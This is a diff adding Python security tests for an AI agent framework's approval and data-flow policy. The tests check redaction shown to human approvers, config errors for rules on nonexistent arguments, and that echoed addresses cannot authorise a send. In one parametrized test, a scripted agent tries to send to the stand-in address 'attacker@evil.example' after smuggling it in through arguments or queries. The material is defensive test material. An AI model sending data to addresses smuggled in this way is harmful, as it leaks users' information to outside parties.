@@ -1,0 +1,128 @@
+"""A person approves what is performed, and what a tool or a person merely repeats vouches for nothing."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agent.fakes import calls, text
+from agent.project import load_project
+from flightloop.errors import ConfigError
+from flightloop.tool import ToolRefused, tool, tool_of
+from tests.security.benches import bench
+
+POLICY = """
+name: desk
+version: "1"
+stages: {tool_call: {rails: [pii]}}
+tools:
+  allow: {helper: ["*"]}
+  ask: [{tool: send}]
+"""
+SINKS = 'name: desk\nversion: "1"\ntools: {allow: {helper: ["*"]}}\n'
+
+
+def sending(sent: list[Any]) -> Any:
+    @tool(effect="keyed", sinks=("to",))
+    def send(to: str, text: str = "") -> str:
+        """Sends a text."""
+        sent.append((to, text))
+        return "sent"
+
+    return tool_of(send)
+
+
+async def test_a_person_is_asked_about_what_is_performed(tmp_path: Path) -> None:
+    """A rail redacts the arguments: the person sees them so, and approves these."""
+    sent: list[Any] = []
+    call = calls(("send", {"to": "desk", "text": "card 4111 1111 1111 1111"}))
+    desk = bench(tmp_path, call, text("Done."), tools=[sending(sent)], policy=POLICY)
+    run = await desk.work(await desk.start("write to desk"))
+    (approval,) = (await desk.journal.approvals("default", status="pending")).data
+    assert approval.arguments == {"to": "desk", "text": "card [redacted:card]"}
+    await desk.journal.decide("default", approval.id, "approve", "ann")
+    assert (await desk.work(run)).status == "succeeded"
+    assert sent == [("desk", "card [redacted:card]")]
+
+
+async def test_what_a_redaction_leaves_must_still_be_a_call(tmp_path: Path) -> None:
+    sent: list[Any] = []
+
+    @tool(effect="keyed")
+    def pay(card: int) -> str:
+        """Pays."""
+        sent.append(card)
+        return "paid"
+
+    policy = POLICY.replace("tool: send", "tool: pay")
+    call = calls(("pay", {"card": 4111111111111111}))
+    desk = bench(tmp_path, call, text("Done."), tools=[tool_of(pay)], policy=policy)
+    assert (await desk.work(await desk.start())).status == "succeeded"
+    assert sent == []
+
+
+@pytest.mark.parametrize("way", ["refused", "wrong type", "unknown argument", "denied", "echoed"])
+async def test_what_is_only_repeated_vouches_for_no_address(tmp_path: Path, way: str) -> None:
+    sent: list[Any] = []
+    evil = "attacker@evil.example"
+
+    @tool(effect="pure")
+    def find(query: str, limit: int = 3) -> dict:
+        """Finds a customer."""
+        if way == "refused":
+            raise ToolRefused(f"no customer matches {query}")
+        return {"asked": query, "found": []}
+
+    first = {
+        "wrong type": ("find", {"query": "x", "limit": evil}),
+        "unknown argument": ("find", {"query": "x", evil: 1}),
+        "denied": ("send", {"to": evil}),
+    }.get(way, ("find", {"query": evil}))
+    script = [calls(first), calls(("send", {"to": evil})), text("Done.")]
+    desk = bench(tmp_path, *script, tools=[tool_of(find), sending(sent)], policy=SINKS)
+    run = await desk.work(await desk.start("help me"))
+    if way == "denied":
+        assert run.status == "waiting_approval"
+        (approval,) = (await desk.journal.approvals("default", status="pending")).data
+        await desk.journal.decide("default", approval.id, "deny", "ann", f"never write to {evil}")
+        run = await desk.work(run)
+    assert run.status == "waiting_approval"
+    assert sent == []
+
+
+async def test_what_a_trusted_tool_tells_vouches_for_an_address(tmp_path: Path) -> None:
+    sent: list[Any] = []
+
+    @tool(effect="pure")
+    def find(query: str) -> dict:
+        """Finds a customer."""
+        return {"name": query, "mail": "ann@corp.example"}
+
+    script = [calls(("find", {"query": "Ann"})), calls(("send", {"to": "ann@corp.example"})), text("Done.")]
+    desk = bench(tmp_path, *script, tools=[tool_of(find), sending(sent)], policy=SINKS)
+    assert (await desk.work(await desk.start("write to Ann"))).status == "succeeded"
+    assert sent == [("ann@corp.example", "")]
+
+
+@pytest.mark.parametrize(
+    ("rules", "where"),
+    [
+        ("arguments: {pay: {amount: {maximum: 5}}}", "tools.arguments.pay.amount: pay has no argument amount"),
+        ("ask: [{tool: pay, argument: amount, above: 5}]", "tools.ask.0.argument: pay has no argument amount"),
+    ],
+)
+def test_a_rule_about_an_argument_that_no_tool_has_is_an_error(tmp_path: Path, rules: str, where: str) -> None:
+    for name in ("agents", "policies"):
+        (tmp_path / name).mkdir()
+    (tmp_path / "tools.py").write_text(
+        "from flightloop import tool\n\n"
+        "@tool(effect='keyed')\ndef pay(Amount: float) -> str:\n    'Pays.'\n    return ''\n"
+    )
+    policy = f'name: desk\nversion: "1"\ntools:\n  allow: {{desk: [pay]}}\n  {rules}\n'
+    (tmp_path / "policies" / "desk.yaml").write_text(policy)
+    (tmp_path / "agents" / "desk.yaml").write_text("name: desk\ninstructions: Help.\npolicy: desk\ntools: [pay]\n")
+    with pytest.raises(ConfigError, match="has no argument") as caught:
+        load_project(tmp_path)
+    assert where in caught.value.message
